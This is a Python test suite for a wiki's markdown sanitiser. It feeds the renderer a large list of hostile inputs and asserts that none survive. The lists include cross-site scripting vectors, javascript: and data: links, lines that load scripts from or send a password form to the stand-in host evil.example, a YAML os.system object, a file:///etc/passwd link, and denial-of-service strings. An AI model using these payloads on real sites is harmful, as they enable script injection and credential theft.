"""Whatever somebody types, no script, no foreign address and no borrowed name gets into a page."""

import contextlib
import re
import resource
import string

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wiki.markdown import MAX_TEXT, render_fragment, render_page, split_front_matter, unrendered
from wiki.markdown.sanitise import sanitise
from wiki.model.errors import Refused

TAGS = set(
    "a abbr aside b blockquote br caption cite code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i "  # noqa: SIM905
    "img input ins kbd label li ol p pre q s section small span strong sub summary sup table tbody td tfoot th thead "
    "tr u ul".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "class", "rel", "role", "aria-hidden", "tabindex"},
    "abbr": {"title"},
    "aside": {"class", "role"},
    "code": {"class"},
    "div": {"class", "tabindex", "role", "aria-labelledby"},
    "img": {"src", "alt", "width", "height", "loading"},
    "input": {"type", "disabled", "checked"},
    "li": {"class", "id"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "section": {"class", "role"},
    "span": {"class"},
    "sup": {"class", "id"},
    "td": {"class"},
    "th": {"class", "scope"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}
CLASSES = re.compile(
    r"anchor|external|footnote-ref|footnote-back|footnotes|table|task|callout|callout-title|note|tip|important|warning"
    r"|caution|tok-(com|key|str|num|name|ins|del)"
    r"|align-(left|center|right)|language-[\w+#.-]+"
)
SAFE_TARGET = re.compile(r"(https?:|mailto:|tel:|/(?![/\\])|#|\?)")


def assert_safe(html: str) -> None:
    """Parse as a browser does, and look at everything that is there."""
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert isinstance(element.tag, str), f"a comment or an instruction: {element.text}"
        assert element.tag in TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES.get(element.tag, set()), (element.tag, name)
            if name in {"href", "src"}:
                assert SAFE_TARGET.match(value), value
                assert not re.search(r"[\x00-\x20]", value), value
            if name == "src":
                assert value.startswith("/")
            if name == "id":
                assert re.match(r"(h|fn)-", value), value
            if name == "class":
                assert all(CLASSES.fullmatch(each) for each in value.split()), value


HTML = [
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/src='https://evil.example'>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset='https://evil.example/x 1x'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=password name=password>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0 class=flash>x</div>",
    "<b onmouseover=alert(1)>x</b>",
    "<b class='callout warning' id=csrf_token>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='https://a' onclick='alert(1)'>x</a>",
    "<a name=x id=x href='/a' target=_blank ping='https://evil.example'>x</a>",
    "<a href='x' style='position:fixed'>x</a>",
    "<a foo='>' href='javascript:alert(1)'>x</a>",
    "<video><source onerror='alert(1)'></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<table><td></table><script>alert(1)</script>",
    "<pre><script>alert(1)</script></pre>",
    "<details><summary><script>alert(1)</script></summary></details>",
    "<x onclick=alert(1)>x</x>",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "\ufeff<script>alert(1)</script>",
    "\x3cscript\u2028>alert(1)</script>",
]

LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](%256Aavascript:alert(1))",
    "[x](javascript://example.org/%0Aalert(1))",
    "[x](javascript:alert(1) 'title')",
    '[x](/a "onclick=alert(1)")',
    "[x](/a '\"><script>alert(1)</script>')",
    '[x](/a"onclick="alert(1))',
    "[x](/a'onclick='alert(1))",
    "[x](/a><script>alert(1)</script>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](vb\nscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](ftp://evil.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](https:javascript:alert(1))",
    "[x](https://evil.example/\"onclick='alert(1)')",
    "[x](mailto:a@b.example?body=<script>)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <java\tscript:alert(1)> 'title'",
    "[y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    "[<script>alert(1)</script>](/a)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    "![x](/\\evil.example/track.gif)",
    '![x"onerror="alert(1)](/a.png)',
    "![<img src=x onerror=alert(1)>](/a.png)",
    '![x](/a.png "onerror=alert(1)")',
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "[[//evil.example]]",
    '[[a"onclick="alert(1)|<script>alert(1)</script>]]',
    "[[../../../etc/passwd]]",
]

REST = [
    "# <script>alert(1)</script>",
    "# x {#csrf_token}",
    '# x {#"onclick=alert(1)}',
    "## location\n\n## cookie\n\n## __proto__",
    '```"onclick=alert(1)\nx\n```',
    "```<script>\nx\n```",
    "```x class=y onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|a|\n|:-:|\n|<script>alert(1)</script>|",
    '|a"onclick="alert(1)|b|\n|-|-|\n|</td></table><script>alert(1)</script>|x|',
    "a[^x]\n\n[^x]: <script>alert(1)</script>",
    'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    '*[HTML]: "onclick=alert(1)\n\nHTML',
    "*[<script>]: x\n\n<script>",
    "term\n: <script>alert(1)</script>",
    "- [ ] <script>alert(1)</script>",
    "> [!NOTE] <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "*<script>*alert(1)*</script>*",
    '{% page "javascript:alert(1)" %}',
    '[x]({% page "javascript:alert(1)" %})',
    '[x]({% link "https://evil.example/\\"onclick=alert(1)" %})',
    '[x]({% page "//evil.example" %})',
    '{% slack_channel "<script>alert(1)</script>" %}',
    '{% image "x" "<img src=x onerror=alert(1)>" %}',
    '{% alert "<script>alert(1)</script>" %}x{% endalert %}',
    "{% comment %}<script>{% endcomment %}alert(1)</script>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<scr{% comment %}x{% endcomment %}ipt>alert(1)</script>",
    "[x](java{% comment %}x{% endcomment %}script:alert(1))",
    "[x]({{ site.baseurl }}javascript:alert(1))",
    "---\ntitle: <script>alert(1)</script>\n---\nx",
    "---\nredirect_to: javascript:alert(1)\n---\nx",
    "---\na: !!python/object/apply:os.system ['true']\n---\nx",
    "---\na: &a [x]\nb: *a\n---\n<script>alert(1)</script>",
    "---\n<script>alert(1)</script>\n---\nx",
    "<b>" * 300 + "<script>alert(1)</script>",
    "<table><tr><td>" * 60 + "<svg/onload=alert(1)>",
]

HOSTILE = [*HTML, *LINKS, *REST]


def test_the_hostile_texts_are_many():
    assert len(set(HOSTILE)) >= 120


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_page_is_shown_and_harmless(text):
    shown = render_page(text, "travel/leave")
    assert_safe(shown.html)
    if shown.redirect_to is not None:
        assert SAFE_TARGET.match(shown.redirect_to)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_remark_is_shown_and_harmless(text):
    assert_safe(render_fragment(text, "act-1"))


@pytest.mark.parametrize("text", HTML)
def test_the_last_gate_holds_alone(text):
    assert_safe(sanitise(text))


@pytest.mark.parametrize(
    "before", ["- ", "> ", "1. > ", "|a|\n|-|\n|", "# ", "*", "**[", "term\n: ", "a[^1]\n\n[^1]: "]
)
@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>"]
)
def test_no_surroundings_make_a_hostile_text_work(before, text):
    assert_safe(render_page(before + text, "").html)


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *"*_`[]()!<>|-+#~:\\\n&;\"'{}%^=",
        "javascript:",
        "<script>",
        "</script>",
        "onerror=",
        "](",
        "![",
        "[[",
        "]]",
        "<!--",
        "-->",
        "```",
        "{% raw %}",
        '{% page "',
        '" %}',
        '<a href="',
        "</a>",
        "https://",
        "HTTP://a.example/",
        "@",
        "me@b.example",
        "&#x6A;",
        "    ",
        "\n\n",
        "> ",
        "- ",
        "|",
        "\x00",
        "\u202e",
        "é",
        "中",
    ]
)
TEXTS = st.one_of(
    st.lists(PIECES, max_size=25).map("".join), st.text(max_size=200), st.text(alphabet=string.printable, max_size=200)
)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_no_mixture_of_marks_makes_a_page_unsafe(text):
    assert_safe(render_page(text, "a").html)
    assert_safe(render_fragment(text, "c"))


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.sampled_from(["https://a.example/b", "http://b.example", "me@b.example"]), TEXTS)
def test_no_typed_address_stands_in_a_link_or_in_code(before, address, after):
    for html in (render_page(f"{before} {address} {after}", "a").html, render_fragment(before + address + after, "c")):
        assert_safe(html)
        open_links = 0
        for closing, name in re.findall(r"<(/?)(a|code)\b", html):
            assert closing or not open_links or name == "code", html
            open_links += (-1 if closing else 1) if name == "a" else 0
        for code in re.findall(r"<code[^>]*>(.*?)</code>", html, re.DOTALL):
            assert "<a" not in code, html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=string.printable, max_size=80))
def test_what_follows_a_typed_address_is_no_danger(rest):
    for begin in ("https://", "https://a.example/", "http://a@", "me@", "me@b.example"):
        assert_safe(render_page(begin + rest, "").html)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60), st.text(max_size=30))
def test_any_target_of_a_link_is_safe(target, folder):
    assert_safe(render_page(f"[x](<{target}>) ![y](<{target}>) [[{target}]]", folder).html)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_front_matter_is_read_or_left_in_the_text(head):
    text = f"---\n{head}\n---\nbody"
    values, body = split_front_matter(text)
    assert isinstance(values, dict)
    assert body.endswith("body")


def test_a_page_that_cannot_be_rendered_is_shown_as_it_was_typed():
    assert_safe(unrendered("<script>alert(1)</script>").html)


def test_ids_of_two_remarks_on_one_page_never_meet():
    one, two = (set(re.findall(r'id="([^"]+)"', render_fragment("a[^1]\n\n[^1]: b", f"act-{n}"))) for n in (1, 2))
    assert one
    assert not one & two


MEBI = MAX_TEXT

SLOW = {
    "deep quotes": ">" * 50_000,
    "lazy deep quotes": "> " * 40 + "\n" + "a\n" * 24_000,
    "brackets": "[" * 50_000,
    "brackets that close": "[" * 25_000 + "]" * 25_000,
    "half links": "[a](" * 12_000,
    "half titles": '[a](b "' * 7_000,
    "emphasis": "*a " * 20_000,
    "emphasis both ways": "*a **b " * 3_400 + "c** d* " * 3_400,
    "wiki images": "![[" * 16_000,
    "backticks": "".join("a" + "`" * i for i in range(1, 310)),
    "strikes": "~~a " * 12_000,
    "headings with spaces": "# " + " #" * 20_000 + " a",
    "a wide table with short rows": "|" + "a|" * 90 + "\n|" + "-|" * 90 + "\n" + "|\n" * 20_000,
    "tables that break off": "a|b\n-|-\n" * 6_000 + "c|d|e\n",
    "footnotes": "".join(f"[^{i}] " for i in range(2_000)) + "\n\n" + "".join(f"[^{i}]: x\n" for i in range(2_000)),
    "definitions": "".join(f"[a{i}]: /b{i}\n" for i in range(3_000)),
    "abbreviations": "".join(f"*[a{i}]: b\n" for i in range(1_000)) + "a1 " * 10_000,
    "deep lists": "- " * 24_000 + "a",
    "indented lists": "".join("  " * i + "- a\n" for i in range(210)),
    "open comments": "a <!-- " * 7_000,
    "open tags": '<a b="' * 8_000,
    "nested tags": "<ul><li>" * 6_000,
    "open shortcodes": '{% page "a' * 5_000,
    "deep YAML": "---\na: " + "[" * 30_000 + "\n---\n",
    "deep YAML lists": "---\n" + "- " * 30_000 + "\n---\n",
    "YAML aliases": "---\na0: &a0 [x, x]\n"
    + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 60))
    + "---\n",
    "a long text": "word *word* `word`\n\n" * 6_000,
    "typed addresses": "https://a.example/b " * 2_400,
    "typed addresses without an end": ("https://a.example/" + ")" * 1_900 + " ") * 25,
    "typed addresses of mail": "a_b.c@d.example " * 3_000,
    "names without a place": "a_@" * 16_000,
    "places without a name": "@a.b" * 12_000,
    "schemes": "https://" * 6_000,
    "1 MiB of typed addresses": "https://a.example/b_c " * (MEBI // 22),
    "1 MiB of brackets": "[" * MEBI,
    "1 MiB of lists": "- a\n" * (MEBI // 4),
    "1 MiB of one-letter lines": "a\n" * (MEBI // 2),
    "1 MiB of tables": "|a|b|\n|-|-|\n" * (MEBI // 12),
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_longer_than_its_time(name):
    started = _processor_time()
    with contextlib.suppress(Refused):
        render_page(SLOW[name], "")
    assert _processor_time() - started < 2 + 4  # the time itself, and the start of a child for a long text


def _processor_time():
    """Of this process and of the children that have ended: a child is stopped by the clock on the wall, before it has
    used as much."""
    return sum(sum(resource.getrusage(whose)[:2]) for whose in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))


def test_a_text_over_a_mebibyte_is_refused():
    with pytest.raises(Refused, match="at most 1 MB can"):
        render_page("ä" * (MAX_TEXT // 2 + 1), "")
    with pytest.raises(Refused, match="at most 1 MB can"):
        render_fragment("a" * (MAX_TEXT + 1), "c")


@pytest.mark.parametrize(
    "text", ["[a]: /" + "b" * 20_000 + "\n\n" + "[a] " * 6_000, "*[a]: " + "b" * 190 + "\n\n" + "a " * 23_000 * 2]
)
def test_a_definition_used_often_cannot_make_a_page_huge(text):
    with pytest.raises(Refused, match="too long"):
        render_page(text, "")
